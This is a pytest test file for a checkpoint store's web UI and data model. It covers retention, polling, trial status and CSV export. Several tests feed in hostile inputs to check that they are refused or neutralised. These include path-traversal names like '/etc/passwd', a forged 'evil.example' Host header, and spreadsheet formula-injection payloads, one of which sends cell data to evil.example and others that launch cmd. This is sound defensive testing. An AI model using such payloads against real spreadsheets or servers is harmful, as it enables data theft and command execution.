"""The data behind the page (no browser): counts, sizes, best scores, kinds,
incremental reads, and names that must not reach outside LOCATION."""

from __future__ import annotations

import csv
import io
import json
import os
import shutil
import socket
import urllib.error
import urllib.request
from typing import Any

import pytest
from ui_helpers import CONFIG, LAYOUT, NUM_TO_KEEP, XSS, Store, library_answer, report_trial

from checkpoint_store import CheckpointNotFoundError, InvalidConfigError
from checkpoint_store.ui._model import StoreView


def test_overview_agrees_with_the_library(local_store: Store) -> None:
    view = StoreView(local_store.uri)
    data = view.overview(full=True)
    assert [e["name"] for e in data["experiments"]] == sorted(LAYOUT)
    for exp in data["experiments"]:
        assert sorted(t["trial"] for t in exp["trials"]) == sorted(LAYOUT[exp["name"]])
        for row in exp["trials"]:
            want = library_answer(local_store, exp["name"], row["trial"])
            assert row["reports"] == want["reports"] == len(LAYOUT[exp["name"]][row["trial"]][0])
            assert row["committed"] == len(want["committed"])
            assert row["size"] == want["size"]
            assert row["best_checkpoint"] == want["best"]
            assert row["best_score"] == want["best_score"]
            assert row["metric"] == "val/accuracy" and row["status"] == "finished"
            assert row["params"] == {k: v for k, v in
                                     LAYOUT[exp["name"]][row["trial"]][2].items()}


def test_checkpoint_kinds_follow_retention(local_store: Store) -> None:
    view = StoreView(local_store.uri)
    trial = view.trial("sweep", "lr-0.1")
    want = library_answer(local_store, "sweep", "lr-0.1")
    kinds = {c["name"]: c["kind"] for c in trial["checkpoints"]}
    # Scores 0.50 0.62 0.71 0.69 0.74 0.60: best two are reports 5 and 3 (indexes 4, 2);
    # the latest (index 5) is kept too; the rest were evicted.
    assert kinds == {"checkpoint_000000": "evicted", "checkpoint_000001": "evicted",
                     "checkpoint_000002": "best", "checkpoint_000003": "evicted",
                     "checkpoint_000004": "best", "checkpoint_000005": "latest"}
    assert sorted(n for n, k in kinds.items() if k != "evicted") == sorted(want["kept"])
    assert [c["name"] for c in trial["checkpoints"] if c["is_best"]] == ["checkpoint_000004"]
    assert len([k for k in kinds.values() if k == "best"]) == NUM_TO_KEEP
    assert [c["iteration"] for c in trial["checkpoints"]] == [1, 2, 3, 4, 5, 6]


def test_polls_read_only_the_new_rows(local_store: Store, tmp_path: Any) -> None:
    store = Store(str(tmp_path / "live"))
    report_trial(store, "exp", "t", [0.1, 0.2], [True, True], {"lr": 1})
    view = StoreView(store.uri)
    first = view.trial("exp", "t")
    assert first["total_rows"] == 2
    cache = view._caches[("exp", "t")]
    offset = cache.offset
    path = os.path.join(store.uri, "exp", "t", "result.json")
    assert offset == os.path.getsize(path)
    # Rewrite the bytes already parsed (same size): a poll must not read them again.
    with open(path, "r+b") as f:
        f.write(b" " * offset)
    again = view.trial("exp", "t", since=2)
    assert again["rows"] == [] and again["total_rows"] == 2
    report_trial(store, "exp", "t", [0.3], [True], {"lr": 1})
    grown = view.trial("exp", "t", since=2)
    assert [r["val"]["accuracy"] for r in grown["rows"]] == [0.3]
    assert grown["total_rows"] == 3
    new = grown["rows"][0]["checkpoint_dir_name"]
    assert {c["name"]: c["kind"] for c in grown["checkpoints"]}[new] in ("best", "latest")
    assert cache.offset == os.path.getsize(path)


def test_status_follows_the_lease(tmp_path: Any) -> None:
    from checkpoint_store import session
    from checkpoint_store.retention import LEASE_FILE

    store = Store(str(tmp_path / "s"))
    report_trial(store, "exp", "t", [0.1], [True], {})
    view = StoreView(store.uri)
    assert view.summary("exp", "t")["status"] == "finished"
    with session.start(storage_path=store.uri, experiment_name="exp", trial_name="t",
                       checkpoint_config=CONFIG):
        assert view.summary("exp", "t")["status"] == "running"
    assert view.summary("exp", "t")["status"] == "finished"
    # A lease left by a process that is gone (a crash): interrupted, not running.
    lease = os.path.join(store.uri, "exp", "t", LEASE_FILE)
    with open(lease, "w") as f:
        json.dump({"holder": "x", "host": socket.gethostname(), "pid": 2**22 + 7,
                   "trial": f"file://{store.uri}/exp/t", "expires_at": 4e9}, f)
    assert view.summary("exp", "t")["status"] == "interrupted"


def test_a_trial_whose_run_raised_is_errored_until_a_clean_run(tmp_path: Any) -> None:
    from checkpoint_store import session
    from checkpoint_store.retention import LEASE_FILE

    store = Store(str(tmp_path / "s"))
    report_trial(store, "exp", "t", [0.1], [True], {})
    view = StoreView(store.uri)
    assert view.summary("exp", "t")["error"] is None
    kwargs = {"storage_path": store.uri, "experiment_name": "exp", "trial_name": "t",
              "checkpoint_config": CONFIG}
    with pytest.raises(ValueError):
        with session.start(**kwargs):
            session.report({"val": {"accuracy": 0.2}})
            raise ValueError("loss is nan <b>")
    row = view.summary("exp", "t")
    assert row["status"] == "errored"
    assert row["error"] == "ValueError: loss is nan <b>"
    # A later run holding the lease is newer than the recorded failure.
    with session.start(**kwargs):
        assert view.summary("exp", "t")["status"] == "running"
    after = view.summary("exp", "t")
    assert after["status"] == "finished" and after["error"] is None
    # A failure, then a crashed run (its lease left behind): interrupted.
    with pytest.raises(KeyError):
        with session.start(**kwargs):
            raise KeyError("x")
    assert view.summary("exp", "t")["status"] == "errored"
    with open(os.path.join(store.uri, "exp", "t", LEASE_FILE), "w") as f:
        json.dump({"holder": "x", "host": socket.gethostname(), "pid": 2**22 + 7,
                   "trial": f"file://{store.uri}/exp/t", "expires_at": 4e9}, f)
    assert view.summary("exp", "t")["status"] == "interrupted"


@pytest.mark.parametrize("experiment, trial", [
    ("..", "lr-0.1"), ("sweep", ".."), ("sweep/../sweep", "lr-0.1"), ("sweep", "lr-0.1/.."),
    ("/etc", "passwd"), ("", "lr-0.1"), ("sweep", "lr-0.1\x00"),
])
def test_names_outside_location_are_refused(local_store: Store, experiment: str,
                                            trial: str) -> None:
    with pytest.raises(InvalidConfigError):
        StoreView(local_store.uri).trial(experiment, trial)


def test_unlisted_names_are_not_found(local_store: Store, tmp_path: Any) -> None:
    # A trial that exists on disk but outside the location given to `ui`.
    outside = Store(str(tmp_path / "other"))
    report_trial(outside, "exp", "t", [0.5], [True], {})
    view = StoreView(os.path.join(local_store.uri, "sweep"))
    with pytest.raises(CheckpointNotFoundError):
        view.trial(XSS, "t0")
    with pytest.raises(CheckpointNotFoundError):
        view.trial("sweep", "missing")
    view = StoreView(os.path.join(local_store.uri, "sweep", "lr-0.1"))
    assert view.experiments() == {"sweep": ["lr-0.1"]}
    with pytest.raises(CheckpointNotFoundError):
        view.trial("sweep", "lr-1.0")
    with pytest.raises(InvalidConfigError):
        view.checkpoint("sweep", "lr-0.1", "../lr-1.0")
    with pytest.raises(InvalidConfigError):
        view.checkpoint("sweep", "lr-0.1", "result.json")


def test_api_refuses_paths_outside_location(local_store: Store, serve: Any) -> None:
    server = serve(os.path.join(local_store.uri, "sweep"))
    cases = {
        "api/trial?experiment=..&trial=sweep": 400,
        "api/trial?experiment=sweep&trial=..%2F..%2Fetc": 400,
        f"api/trial?experiment={XSS}&trial=t0": 404,
        "api/checkpoint?experiment=sweep&trial=lr-0.1&checkpoint=..": 400,
        "api/checkpoint?experiment=sweep&trial=lr-0.1&checkpoint=checkpoint_000099": 404,
        "static/..%2F_model.py": 404,
        "static/../../cli.py": 404,
        "api/trial": 400,
    }
    for path, status in cases.items():
        with pytest.raises(urllib.error.HTTPError) as info:
            urllib.request.urlopen(server.url + path.replace("<", "%3C").replace(">", "%3E")
                                   .replace(" ", "%20").replace("(", "%28").replace(")", "%29"))
        assert info.value.code == status, path
        body = info.value.read()
        assert b"import " not in body and b"def " not in body, path


def test_api_refuses_foreign_host_and_cross_site_verify(local_store: Store, serve: Any) -> None:
    server = serve(local_store.uri)
    req = urllib.request.Request(server.url + "api/overview", headers={"Host": "evil.example"})
    with pytest.raises(urllib.error.HTTPError) as info:
        urllib.request.urlopen(req)
    assert info.value.code == 421
    body = json.dumps({"experiment": "sweep", "trial": "lr-0.1",
                       "checkpoint": "checkpoint_000004"}).encode()
    post = urllib.request.Request(server.url + "api/verify", data=body, method="POST",
                                  headers={"Content-Type": "application/json"})
    with pytest.raises(urllib.error.HTTPError) as info:
        urllib.request.urlopen(post)
    assert info.value.code == 403
    post.add_header("X-Checkpoint-Store", "verify")
    with urllib.request.urlopen(post) as resp:
        assert json.load(resp)["ok"] is True
    with urllib.request.urlopen(server.url) as resp:
        assert "script-src 'self'" in resp.headers["Content-Security-Policy"]


@pytest.mark.parametrize("body", [[1, 2], "checkpoint_000004", 5, True])
def test_verify_answers_a_body_that_is_not_an_object_with_a_400(local_store: Store,
                                                                serve: Any, body: Any) -> None:
    """A JSON list (or string, number) as /api/verify's body raised AttributeError
    in the server: a 500 with Flask's HTML page and a traceback in its log."""
    server = serve(local_store.uri)
    post = urllib.request.Request(server.url + "api/verify", data=json.dumps(body).encode(),
                                  method="POST", headers={"Content-Type": "application/json",
                                                          "X-Checkpoint-Store": "verify"})
    with pytest.raises(urllib.error.HTTPError) as info:
        urllib.request.urlopen(post)
    assert info.value.code == 400
    assert "JSON object" in json.load(info.value)["error"]


def test_location_must_hold_trials(local_store: Store) -> None:
    ckpt = os.path.join(local_store.uri, "sweep", "lr-0.1", "checkpoint_000004")
    with pytest.raises(InvalidConfigError, match="checkpoint"):
        StoreView(ckpt)
    assert CONFIG.num_to_keep == NUM_TO_KEEP


def test_a_trial_under_a_policy_shows_its_best_and_kept(tmp_path: Any) -> None:
    """A recorded ``CheckpointConfig(policy=...)`` (issue 14): the page ranks by the
    policy's BestN and marks what the policy kept."""
    from checkpoint_store import Checkpoint, CheckpointConfig, session
    from checkpoint_store.retention import AnyOf, BestN, EveryNSteps

    root = str(tmp_path / "store")
    src = tmp_path / "src"
    src.mkdir()
    (src / "model.bin").write_bytes(b"w" * 32)
    cfg = CheckpointConfig(policy=AnyOf(BestN(2, "loss", "min"), EveryNSteps(4)))
    with session.start(storage_path=root, experiment_name="e", trial_name="t",
                       checkpoint_config=cfg):
        for loss in [5, 4, 6, 3, 7, 8, 2, 9, 9, 9]:
            session.report({"loss": loss}, checkpoint=Checkpoint.from_directory(src))
    trial = StoreView(root).trial("e", "t")
    kept = [c["name"] for c in trial["checkpoints"] if c["kind"] != "evicted"]
    assert kept == [f"checkpoint_{i:06d}" for i in (3, 6, 7, 9)]  # steps 4, 7, 8, 10
    assert [c["name"] for c in trial["checkpoints"] if c["is_best"]] == ["checkpoint_000006"]


def test_decimation_keeps_each_run_extremes_and_ends() -> None:
    from checkpoint_store.ui._model import _decimate

    points = [(float(i), float((i * 7919) % 1000), i) for i in range(10_000)]
    kept = _decimate(points, 400)
    assert len(kept) <= 400 and kept[0] == points[0] and kept[-1] == points[-1]
    assert [p[2] for p in kept] == sorted(p[2] for p in kept)  # row order
    for b in range(100):  # every run of 100 points keeps its lowest and highest
        run = points[b * 100:(b + 1) * 100]
        inside = [p for p in kept if run[0][2] <= p[2] <= run[-1][2]]
        assert min(p[1] for p in run) in [p[1] for p in inside]
        assert max(p[1] for p in run) in [p[1] for p in inside]
    assert _decimate(points[:300], 400) == points[:300]  # short lines are whole


def test_series_marks_every_checkpoint_and_follows_the_zoom(local_store: Store) -> None:
    view = StoreView(local_store.uri)
    series = view.series("sweep", "lr-0.1", "val/accuracy")
    assert series["points"] == [[i + 1, s] for i, s in enumerate(LAYOUT["sweep"]["lr-0.1"][0])]
    assert [m["name"] for m in series["markers"]] == [f"checkpoint_{i:06d}" for i in range(6)]
    zoomed = view.series("sweep", "lr-0.1", "val/accuracy", x_min=2, x_max=4)
    assert [p[0] for p in zoomed["points"]] == [2, 3, 4] and zoomed["total"] == 3
    with pytest.raises(InvalidConfigError):
        view.series("sweep", "lr-0.1", "val/accuracy", points=3)


def test_an_unchanged_poll_is_a_304_without_a_body(serve: Any, tmp_path: Any) -> None:
    store = Store(str(tmp_path / "s"))
    report_trial(store, "exp", "t", [0.2, 0.3], [True, True], {})
    server = serve(store.uri)
    etags = {}
    for path in ("api/trial?experiment=exp&trial=t", "api/overview",
                 "api/series?experiment=exp&trial=t&metric=loss"):
        with urllib.request.urlopen(server.url + path) as resp:
            etags[path] = resp.headers["ETag"]
            json.load(resp)
        req = urllib.request.Request(server.url + path, headers={"If-None-Match": etags[path]})
        with pytest.raises(urllib.error.HTTPError) as info:  # urllib raises on 304
            urllib.request.urlopen(req)
        assert info.value.code == 304 and info.value.read() == b""
    report_trial(store, "exp", "t", [0.4], [True], {})  # a new report: a new answer
    first = "api/trial?experiment=exp&trial=t"
    req = urllib.request.Request(server.url + first, headers={"If-None-Match": etags[first]})
    with urllib.request.urlopen(req) as resp:
        assert json.load(resp)["total_rows"] == 3


def test_a_pruned_trial_is_pruned_until_a_run_ends_otherwise(tmp_path: Any) -> None:
    optuna = pytest.importorskip("optuna")
    from checkpoint_store import session
    from checkpoint_store.integrations.optuna import objective

    root = str(tmp_path / "s")

    def train(config: dict[str, Any]) -> None:
        for step in range(6):
            session.report({"acc": config["base"] + 0.01 * step})

    optuna.logging.set_verbosity(optuna.logging.WARNING)
    study = optuna.create_study(direction="maximize", pruner=optuna.pruners.ThresholdPruner(
        lower=0.5, n_warmup_steps=1))
    bases = iter([0.9, 0.1])
    study.optimize(objective(train, lambda t: {"base": next(bases)}, storage_path=root,
                             experiment_name="sweep", metric="acc", mode="max"), n_trials=2)
    assert [t.state.name for t in study.trials] == ["COMPLETE", "PRUNED"]
    view = StoreView(root)
    rows = {t["trial"]: t for t in view.overview()["experiments"][0]["trials"]}
    assert rows["trial_00000"]["status"] == "finished"
    assert rows["trial_00001"]["status"] == "pruned"
    assert rows["trial_00001"]["error"] == "pruned at training_iteration 1 (acc=0.1)"
    # A later run of the trial that ends on its own is finished again.
    with session.start(storage_path=root, experiment_name="sweep", trial_name="trial_00001"):
        session.report({"acc": 0.2})
    assert view.summary("sweep", "trial_00001")["status"] == "finished"


def test_a_stop_without_reason_records_nothing(tmp_path: Any) -> None:
    from checkpoint_store import TrialRunner, session

    def train(config: dict[str, Any]) -> None:
        for step in range(10):
            session.report({"acc": 0.1 * step})

    root = str(tmp_path / "s")
    for name, reason in (("plain", None), ("asked", "stopped by the scheduler")):
        runner = TrialRunner(train, {}, storage_path=root, experiment_name="e", trial_name=name)
        runner.step()
        runner.stop(reason=reason)
    view = StoreView(root)
    assert view.summary("e", "plain")["status"] == "finished"
    asked = view.summary("e", "asked")
    assert (asked["status"], asked["error"]) == ("stopped", "stopped by the scheduler")
    with pytest.raises(InvalidConfigError):
        TrialRunner(train, {}, storage_path=root, experiment_name="e",
                    trial_name="x").stop(reason="r", status="done")


def test_csv_export_of_any_name_and_only_of_listed_experiments(serve: Any,
                                                               tmp_path: Any) -> None:
    name = "träil-ü-日本"
    store = Store(str(tmp_path / "s"))
    report_trial(store, "e", name, [0.2, 0.4], [True, True], {})
    server = serve(store.uri)
    from urllib.parse import quote, unquote

    with urllib.request.urlopen(server.url + f"api/csv?experiment=e&trial={quote(name)}",
                                timeout=10) as resp:
        disposition = resp.headers["Content-Disposition"]
        assert resp.read().decode().count("\n") == 3  # header + 2 rows
    assert unquote(disposition.split("filename*=UTF-8''")[1]) == f"e-{name}.csv"
    for experiment, status in (("nosuch", 404), ("..", 400)):
        with pytest.raises(urllib.error.HTTPError) as info:
            urllib.request.urlopen(server.url + f"api/csv?experiment={experiment}", timeout=10)
        assert info.value.code == status


def test_a_first_read_inspects_every_directory_and_later_reads_follow(tmp_path: Any) -> None:
    # Inspected together on the first read (a pool of threads): each directory
    # still gets its own answer, and what changes afterwards is seen.
    store = Store(str(tmp_path / "many"))
    report_trial(store, "exp", "t", [0.5, 0.9, 0.8, 0.3, 0.2, 0.1, 0.4], [True] * 7, {})
    trial_dir = os.path.join(store.uri, "exp", "t")
    with open(os.path.join(trial_dir, "checkpoint_000002", "extra.bin"), "wb") as f:
        f.write(b"x")  # a file its manifest does not list: invalid
    view = StoreView(store.uri)
    first = view.trial("exp", "t", since=None)
    kinds = {c["name"]: c["kind"] for c in first["checkpoints"]}
    assert kinds == {"checkpoint_000000": "evicted", "checkpoint_000001": "best",
                     "checkpoint_000002": "invalid", "checkpoint_000003": "evicted",
                     "checkpoint_000004": "evicted", "checkpoint_000005": "evicted",
                     "checkpoint_000006": "best"}
    assert "extra.bin" in next(c["reason"] for c in first["checkpoints"]
                               if c["name"] == "checkpoint_000002")
    assert first["total_rows"] == 7
    shutil.rmtree(os.path.join(trial_dir, "checkpoint_000001"))
    report_trial(store, "exp", "t", [0.05], [True], {})
    later = view.trial("exp", "t", since=7)
    kinds = {c["name"]: c["kind"] for c in later["checkpoints"]}
    assert kinds["checkpoint_000001"] == "evicted"  # deleted after the first read
    assert kinds["checkpoint_000007"] in ("best", "latest")
    assert later["total_rows"] == 8
    assert [r["val"]["accuracy"] for r in later["rows"]] == [0.05]


def test_csv_cells_a_spreadsheet_would_run_are_text(tmp_path: Any) -> None:
    """A parameter "=HYPERLINK(...)" (params.json, anyone writing to the store)
    went into the best-rows CSV as is: a spreadsheet opening the download runs
    it as a formula. Every text cell starting like a formula is now quoted as
    text; numbers, negative ones included, stay numbers."""
    from checkpoint_store.ui._server import create_app

    store = Store(str(tmp_path / "s"))
    evil = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    report_trial(store, "e", "@t", [0.2, 0.4], [True, True],
                 {"note": evil, "cmd": "+1+cmd|' /C calc'!A0", "neg": -0.5})
    client = create_app(StoreView(store.uri)).test_client()
    for query in ({"experiment": "e"}, {"experiment": "e", "trial": "@t"}):
        reply = client.get("/api/csv", query_string=query, headers={"Host": "127.0.0.1"})
        assert reply.status_code == 200
        rows = list(csv.reader(io.StringIO(reply.get_data(as_text=True))))
        cells = [c for row in rows for c in row]
        assert not any(c.startswith(("=", "+", "@")) for c in cells), cells
    best = list(csv.DictReader(io.StringIO(client.get(
        "/api/csv", query_string={"experiment": "e"}, headers={"Host": "127.0.0.1"}
    ).get_data(as_text=True))))[0]
    assert best["trial"] == "'@t" and best["param/note"] == "'" + evil
    assert best["param/neg"] == "-0.5"  # a number, unchanged


def test_csv_of_a_trials_rows_quotes_a_reported_formula(tmp_path: Any) -> None:
    """The same for a metric a run reported as text (a tag, a path) in result.json."""
    from checkpoint_store import session
    from checkpoint_store.ui._server import create_app

    root = str(tmp_path / "s")
    with session.start(storage_path=root, experiment_name="e", trial_name="t"):
        session.report({"loss": 0.5, "tag": "-2+3+cmd|' /C calc'!A0"})
    client = create_app(StoreView(root)).test_client()
    reply = client.get("/api/csv", query_string={"experiment": "e", "trial": "t"},
                       headers={"Host": "127.0.0.1"})
    (row,) = list(csv.DictReader(io.StringIO(reply.get_data(as_text=True))))
    assert row["tag"] == "'-2+3+cmd|' /C calc'!A0" and row["loss"] == "0.5"
